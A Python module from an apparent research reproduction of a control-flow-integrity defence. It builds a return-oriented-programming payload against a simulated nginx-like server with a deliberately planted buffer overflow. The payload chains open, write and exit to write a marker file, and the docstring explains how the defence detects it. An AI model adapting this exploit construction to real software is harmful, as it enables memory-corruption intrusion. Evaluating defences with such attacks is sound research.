"""The traditional ROP attack on the nginx analogue (§7.1.2).

Exploits the implanted Content-Length overflow: the payload overwrites
the handler's frame and chains *whole library functions* glued by
``setcontext`` register-loading gadgets —

    setcontext(path, O_CREAT|O_WRONLY) ; open()
    setcontext(fd, data, len)          ; write()   <- detected here
    exit()

— ending, like the paper's exploit, with arbitrary data written to an
attacker-chosen file.  FlowGuard flags the flow at the ``write``
endpoint: the hijacked returns target function entries instead of
call/return-matched sites, so the TIP pairs fall outside the ITC-CFG.
"""

from __future__ import annotations

import struct
from typing import Tuple

from repro.attacks.gadgets import find_gadgets
from repro.attacks.recon import ReconReport
from repro.osmodel.syscalls import O_CREAT, O_WRONLY
from repro.workloads.servers import (
    NGINX_VULN_BUF_SIZE,
    NGINX_VULN_RET_OFFSET,
)

ATTACK_PATH = b"/tmp/pwned"
ATTACK_DATA = b"PWNED-BY-ROP\n"

_PATH_OFF = 0
_DATA_OFF = 16


def _p64(value: int) -> bytes:
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


def build_filler(body_addr: int) -> Tuple[bytes, int, int]:
    """The in-buffer scratch area: path and data strings.

    Returns (filler, path_addr, data_addr).
    """
    filler = bytearray(b"A" * NGINX_VULN_BUF_SIZE)
    filler[_PATH_OFF : _PATH_OFF + len(ATTACK_PATH) + 1] = ATTACK_PATH + b"\x00"
    filler[_DATA_OFF : _DATA_OFF + len(ATTACK_DATA) + 1] = ATTACK_DATA + b"\x00"
    return bytes(filler), body_addr + _PATH_OFF, body_addr + _DATA_OFF


def frame_glue(recon: ReconReport, conn_fd: int) -> bytes:
    """The three overwritten slots between the buffer and the return
    address: the ``line`` parameter (must stay a readable string for the
    post-overflow ``log_access`` call), the ``cfd`` parameter (kept
    valid so the 201 response still flows), and the saved FP."""
    return _p64(recon.body_addr) + _p64(conn_fd) + _p64(0)


def build_rop_payload(
    recon: ReconReport,
    conn_fd: int = 4,
) -> bytes:
    """The raw overflow payload (body of the POST request)."""
    gadgets = find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    open_fn = gadgets.functions["open"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    chain = b"".join(
        [
            # open(path, O_CREAT|O_WRONLY)
            _p64(setcontext),
            _p64(path_addr),
            _p64(O_CREAT | O_WRONLY),
            _p64(0),
            _p64(0),
            _p64(open_fn),
            # write(fd, data, len) — fd predicted by recon
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            # exit(whatever)
            _p64(exit_fn),
        ]
    )
    payload = filler + frame_glue(recon, conn_fd) + chain
    assert len(filler) + 24 == NGINX_VULN_RET_OFFSET
    return payload


def build_rop_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    """The full HTTP-ish request carrying the ROP payload."""
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST", build_rop_payload(recon, conn_fd))
